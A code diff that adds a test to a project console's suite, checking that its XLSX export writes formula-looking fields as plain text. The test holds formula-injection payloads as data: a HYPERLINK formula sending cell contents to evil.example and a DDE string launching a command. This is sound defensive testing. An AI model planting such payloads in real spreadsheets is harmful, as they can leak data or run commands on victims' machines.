@@ -100,6 +100,17 @@ async def test_the_list_sorts_and_exports_what_it_shows(console) -> None:
     assert sorted(row[1] for row in sheet.iter_rows(min_row=2, values_only=True)) == ["城西科创产业园", "留下物流中心"]
 
 
+async def test_the_list_export_writes_formula_looking_county_text_as_text(console) -> None:
+    injected = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    await apply_project_changes(console.sessions, [project_changed(4, name=injected, stage="signed", leader="@SUM(1)",
+                                                                   responsible_unit="+cmd|' /C calc'!A0")], NOW)
+    export = await (await console.signed_in("office")).get("/projects.xlsx")
+    sheet = load_workbook(io.BytesIO(export.content)).active
+    row = next(row for row in sheet.iter_rows(min_row=2) if row[1].value == injected)
+    assert {(cell.value, cell.data_type) for cell in (row[1], row[5], row[6])} == {
+        (injected, "s"), ("+cmd|' /C calc'!A0", "s"), ("@SUM(1)", "s")}
+
+
 async def test_the_project_page_shows_timeline_ledger_expropriation_escalations_and_changes(console) -> None:
     await seed(console)
     page = (await (await console.signed_in("office")).get(f"/projects/{pid(1)}")).text
